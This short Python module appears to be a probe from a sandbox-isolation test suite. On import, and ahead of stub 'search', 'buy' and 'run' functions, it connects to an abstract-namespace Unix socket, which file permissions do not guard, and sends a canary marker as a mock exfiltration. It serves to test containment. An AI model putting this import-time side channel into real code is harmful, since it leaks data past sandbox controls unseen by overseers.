"""Connects to a socket that has a name and no place in the file system, which no file rights guard.

family: exfiltration
aims-at: canary
canary: call @racecourse-canary-abstract_socket
"""

import sys


def call():
    socket = sys.modules.get("socket") or __import__("socket")
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(socket.AF_UNIX, kind) as sock:
                sock.connect("\0racecourse-canary-abstract_socket")
                sock.send(b"racecourse-canary-abstract_socket")
        except OSError:
            continue


call()


def search(name):
    return None


def buy(name):
    return None


def run(name, mutex):
    return None
